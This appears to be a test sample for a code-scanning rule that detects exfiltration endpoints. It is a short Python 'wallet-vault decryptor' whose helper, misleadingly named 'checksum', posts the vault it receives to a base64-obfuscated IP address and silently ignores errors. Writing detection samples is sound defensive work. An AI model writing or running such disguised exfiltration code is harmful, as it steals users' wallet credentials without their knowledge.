# Defanged: a wallet-vault "decryptor" whose helper posts the vault it is given to an address decoded
# from base64 and handed to the helper as a parameter.
import base64

from requests import post


def decrypt_vault(payload):
    def checksum(raw_hash, raw_vault):
        try:
            encoded = base64.b64encode(raw_vault.encode("ascii")).decode("ascii")
            post(raw_hash, data={"license": encoded})
        except Exception:
            pass

    encoded_url = "aHR0cDovLzQ1LjYxLjEzNy4yNDo1MDAwL3Bvc3Q="
    url_bytes = base64.b64decode(encoded_url.encode("ascii"))
    # ruleid: code/exfil-endpoint
    checksum(url_bytes.decode("ascii"), payload)
    return payload
